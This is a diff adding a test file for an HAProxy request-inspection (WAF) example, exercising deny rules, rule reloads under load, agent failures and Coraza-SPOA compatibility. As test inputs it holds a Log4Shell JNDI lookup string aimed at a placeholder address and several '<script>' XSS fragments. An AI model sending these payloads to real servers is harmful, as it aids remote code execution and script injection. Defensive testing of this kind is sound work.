@@ -1,0 +1,241 @@
+import { rename, writeFile } from 'node:fs/promises';
+import type { ServerResponse } from 'node:http';
+import { connectAs, startAgent } from '@spop-internal/testbed/example';
+import { Haproxy } from '@spop-internal/testbed/haproxy/haproxy';
+import { describeHaproxies, stopAfterTest } from '@spop-internal/testbed/vitest';
+import { expect, it } from 'vitest';
+import { Origin } from '@spop-internal/testbed/origin';
+import { AGENT, ask, chunked, DENIED, PASSED, sendRaw, SQL, startBoth, startSite } from './testing.ts';
+import { summaryOf, writeRules } from './testing.ts';
+
+const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
+const SCRIPT = [403, 'deny', '941100', '1', 'rules'];
+
+describeHaproxies('the request inspection example', (release) => {
+  it.each(['spoe-request-inspection.conf', 'spoe-request-inspection-bin.conf'])(
+    'denies what the rules find in requests and responses, with %s',
+    async (SPOE_CONF) => {
+      const { haproxy, running } = await startBoth(release, {}, { SPOE_CONF });
+      expect(await ask(haproxy, { path: '/items?q=union+of+select+committees' })).toEqual(PASSED);
+      expect(await ask(haproxy, { path: SQL })).toEqual(DENIED);
+      await running.agent.says(
+        /request denied: id=".{36}" client=192\.0\.2\.1 score=5 rules=942100 "SQL.*" "GET \/items"/,
+      );
+      const log4j = { 'user-agent': '${jndi:ldap://192.0.2.9/a}' };
+      expect(await ask(haproxy, { headers: log4j })).toEqual([403, 'deny', '944150', '1', 'rules']);
+      expect(await ask(haproxy, { headers: FORM, body: 'a=b&c=%3Cscript%3e' })).toEqual(SCRIPT);
+      expect(await ask(haproxy, { headers: FORM, body: 'a=b&c=d' })).toEqual(PASSED);
+      const json = { headers: { 'content-type': 'application/json' }, body: '{"c":"\\u003cscript>"}' };
+      expect(await ask(haproxy, json)).toEqual(SCRIPT);
+      expect(await ask(haproxy, { path: '/leak' })).toEqual([403, 'deny', '951100', '1', 'rules']);
+      // HAProxy waits for a body without a length, too.
+      expect(summaryOf(await sendRaw(haproxy, chunked('/', ['a=', 100, '<script>'])))).toEqual(SCRIPT);
+      // Of a body that is larger than its buffer the rules see the beginning.
+      const seen = [200, undefined, '200004', '0', 'rules'];
+      expect(await ask(haproxy, { headers: FORM, body: 'a=b&'.repeat(12_000) })).toEqual(seen);
+      await running.agent.says(/end of a request body not seen: cut, 1 times so far/);
+      await haproxy.says(/ 200 .* action=- detected=- score=3\/0 rules=200004 whole=0\/1 paired=1 by=rules spoe=-/);
+    },
+  );
+
+  it("keeps coraza-spoa's configuration", async () => {
+    const RULES = await writeRules(`
+      rule 1 A page that has moved
+        in path
+        is /old
+        redirect https://a.test/new
+      rule 2 Nobody's business
+        in path
+        is /drop
+        drop
+      rule 3 A word
+        in argument
+        contains evil
+        deny
+      rule 4 A leak
+        in response-body
+        contains sql syntax
+        deny`);
+    const { agent, spoeAddress } = await startAgent(AGENT, { RULES });
+    const config = corazaConfig(spoeAddress, (await startSite()).address);
+    const haproxy = stopAfterTest(await Haproxy.start({ program: release.program, config, files: CORAZA_FILES }));
+    const client = connectAs('192.0.2.1', haproxy);
+    const askFor = async (path: string): Promise<unknown[]> => {
+      const { status, headers } = await client.request({ path });
+      return [status, headers['waf-block'], headers['location']];
+    };
+    await expect.poll(() => askFor('/')).toEqual([200, undefined, undefined]);
+    expect(await askFor('/?a=EVIL')).toEqual([403, 'request', undefined]);
+    expect(await askFor('/leak')).toEqual([403, 'response', undefined]);
+    expect(await askFor('/old')).toEqual([302, undefined, 'https://a.test/new']);
+    await haproxy.says(/GET \/leak .* [\w-]{36} spoa-error: - waf-hit: 403 ruleid: 4 rules-hit: 1/);
+    await agent.stop();
+    expect(await askFor('/')).toEqual([500, undefined, undefined]);
+  });
+
+  if (release.name !== 'forky') return;
+
+  it('finds the request of each response, with many at once', async () => {
+    const rules = Array.from({ length: 9 }, (_, n) => `rule ${n + 1} Number\n in argument.n\n is ${n + 1}\n score 1`);
+    const RULES = await writeRules([...rules, 'rule 100 All\n in status\n is 200\n score 1'].join('\n'));
+    const { haproxy } = await startBoth(release, { RULES });
+    const client = connectAs('192.0.2.1', haproxy);
+    await Promise.all(
+      Array.from({ length: 200 }, async (_, at) => {
+        const n = (at % 9) + 1;
+        const { headers } = await client.request({ path: `/?n=${n}` });
+        // A busy machine may miss HAProxy's deadline.
+        if (headers['x-spoe-error'] === undefined) expect(headers['x-rules']).toBe(`${n},100`);
+        else expect(headers['x-spoe-error']).toBe('1');
+      }),
+    );
+    expect((await client.request({ path: '/?n=1' })).headers['x-rules']).toBe('1,100');
+  });
+
+  it('detects without a word to the client where it is told to', async () => {
+    const { haproxy } = await startBoth(release, { DETECT_ONLY: '1' });
+    expect(await ask(haproxy, { path: SQL })).toEqual([200, undefined, '942100', '1', 'rules']);
+    await haproxy.says(/ 200 .* action=- detected=deny score=5\/0 rules=942100/);
+  });
+
+  it('takes up other rules while requests come, without losing one, and stays with the last good ones', async () => {
+    const rules = (word: string): string => `rule 1 A word\n in argument\n contains ${word}, always\n deny`;
+    const RULES = await writeRules(rules('one'));
+    const { haproxy, running } = await startBoth(release, { RULES });
+    const client = connectAs('192.0.2.1', haproxy);
+    let isOver = false;
+    const seen: Record<string, number> = {};
+    const load = Array.from({ length: 8 }, async (_, at) => {
+      while (!isOver) {
+        const { status, headers } = await client.request({ path: at % 2 === 0 ? '/?a=always' : '/?a=never' });
+        const what = headers['x-spoe-error'] === undefined ? `${at % 2} ${status}` : `error ${headers['x-spoe-error']}`;
+        seen[what] = (seen[what] ?? 0) + 1;
+      }
+    });
+    for (let round = 0; round < 5; round++) {
+      const [good, bad] = [`good${round}`, `bad${round}`];
+      await writeFile(`${RULES}.next`, rules(good));
+      await rename(`${RULES}.next`, RULES);
+      running.agent.signal('SIGHUP');
+      await expect.poll(() => ask(haproxy, { path: `/?a=${good}` })).toEqual([403, 'deny', '1', '1', 'rules']);
+      await writeFile(RULES, rules(`${bad}\n matches (${bad}`));
+      running.agent.signal('SIGHUP');
+      await running.agent.says(new RegExp(`rule 1: expected a pattern as RE2 .*${bad}.*stays in use`));
+      expect(await ask(haproxy, { path: `/?a=${good}` })).toEqual([403, 'deny', '1', '1', 'rules']);
+    }
+    isOver = true;
+    await Promise.all(load);
+    expect(seen['0 403']).toBeGreaterThan(20);
+    expect(seen['1 200']).toBeGreaterThan(20);
+    // A busy machine may miss HAProxy's deadline; nothing else may come.
+    expect(Object.keys(seen).filter((what) => !['0 403', '1 200', 'error 1'].includes(what))).toEqual([]);
+    expect(seen['error 1'] ?? 0).toBeLessThan(20);
+  });
+
+  it('denies while the agent does not answer or was killed, says so, and goes on with another agent', async () => {
+    const { haproxy, running } = await startBoth(release);
+    expect(await ask(haproxy, { path: SQL })).toEqual(DENIED);
+    running.agent.signal('SIGSTOP');
+    const late = await connectAs('192.0.2.1', haproxy).request();
+    expect(summaryOf(late)).toEqual([500, undefined, undefined, undefined, 'deadline']);
+    running.agent.signal('SIGCONT');
+    await haproxy.says(/SPOE: \[coraza\] .* st=1 /);
+    await haproxy.says(/ 500 .* action=- .* by=deadline spoe=1/);
+    await running.agent.stop({ signal: 'SIGKILL' });
+    await haproxy.says(/spoe-agents\/agent1 is DOWN/);
+    const { status, headers } = await connectAs('192.0.2.1', haproxy).request();
+    expect([status, headers['x-verdict-source']]).toEqual([500, 'default']);
+    await haproxy.says(/ 500 .* action=- .* by=default spoe=(2|257)/);
+    expect(await haproxy.command('show table verdicts')).toMatch(/key=default .*http_req_cnt=[1-9]/);
+    await startAgent(AGENT, { SPOE_ADDR: running.spoeAddress });
+    await expect.poll(() => ask(haproxy, { path: SQL }), { timeout: 10_000 }).toEqual(DENIED);
+  });
+
+  it('inspects a response whose request it has had to forget, and says so', async () => {
+    const { promise, resolve } = Promise.withResolvers<void>();
+    let waiting = 0;
+    const answerLater = async (response: ServerResponse): Promise<void> => {
+      waiting++;
+      await promise;
+      response.setHeader('content-length', 20).end('<title>Index of /</t');
+    };
+    const site = stopAfterTest(await Origin.serve((_, response) => void answerLater(response)));
+    const { haproxy, running } = await startBoth(release, { MAX_KNOWN_REQUESTS: '1' }, {}, site);
+    const answers = [ask(haproxy, { path: '/?a=1' }), ask(haproxy, { path: '/?a=2' })];
+    await expect.poll(() => waiting).toBe(2);
+    resolve();
+    const denied = [403, 'deny', '954100', '1', 'rules'];
+    expect(await Promise.all(answers)).toEqual([denied, denied]);
+    await haproxy.says(/ paired=0 by=rules/);
+    await haproxy.says(/ paired=1 by=rules/);
+    await running.agent.says(/response without its request: request not known, 1 times so far/);
+  });
+});
+
+/** The same constructs as in coraza-spoa 0.7.2's example/haproxy. */
+function corazaConfig(spoeAddress: string, site: string): string {
+  return `
+global
+  log stdout format raw local0
+
+defaults
+  log global
+  option httplog
+  no option abortonclose
+  timeout client 1m
+  timeout server 1m
+  timeout connect 10s
+
+frontend default
+  mode http
+  bind "unix@\${RUN_DIR}/http.sock" accept-proxy
+  log-format "%ci:%cp\\ [%t]\\ %{+Q}r\\ %[var(txn.coraza.id)]\\ spoa-error:\\ %[var(txn.coraza.error)]\\ waf-hit:\\ %[var(txn.coraza.status)]\\ ruleid:\\ %[var(txn.coraza.ruleid)]\\ rules-hit:\\ %[var(txn.coraza.rules_hit)]"
+  http-request set-var(txn.coraza.app) str(sample_app)
+  filter spoe engine coraza config "\${RUN_DIR}/coraza.cfg"
+  http-request send-spoe-group coraza coraza-req
+  http-request redirect code 302 location %[var(txn.coraza.data)] if { var(txn.coraza.action) -m str redirect }
+  http-response redirect code 302 location %[var(txn.coraza.data)] if { var(txn.coraza.action) -m str redirect }
+  http-request deny deny_status 403 hdr waf-block "request"  if { var(txn.coraza.action) -m str deny }
+  http-response deny deny_status 403 hdr waf-block "response" if { var(txn.coraza.action) -m str deny }
+  http-request silent-drop if { var(txn.coraza.action) -m str drop }
+  http-response silent-drop if { var(txn.coraza.action) -m str drop }
+  http-request deny deny_status 500 if { var(txn.coraza.error) -m int gt 0 }
+  http-response deny deny_status 500 if { var(txn.coraza.error) -m int gt 0 }
+  use_backend site
+
+backend site
+  mode http
+  server site ${site}
+
+backend coraza-spoa
+  option spop-check
+  mode tcp
+  server coraza_spoa ${spoeAddress} check
+`;
+}
+
+const CORAZA_FILES = {
+  'coraza.cfg': `
+[coraza]
+spoe-agent coraza-agent
+  messages   coraza-res
+  groups     coraza-req
+  option     var-prefix      coraza
+  option     set-on-error    error
+  timeout    hello           2s
+  timeout    idle            2m
+  timeout    processing      500ms
+  use-backend coraza-spoa
+  log        global
+
+spoe-message coraza-req
+  args app=var(txn.coraza.app) src-ip=src src-port=src_port dst-ip=dst dst-port=dst_port method=method path=path query=query version=req.ver headers=req.hdrs body=req.body exportRuleIDs=bool(false)
+
+spoe-message coraza-res
+  args app=var(txn.coraza.app) id=var(txn.coraza.id) version=res.ver status=status headers=res.hdrs body=res.body exportRuleIDs=bool(false) detect-only=bool(false)
+  event on-http-response
+
+spoe-group coraza-req
+  messages coraza-req
+`,
+};
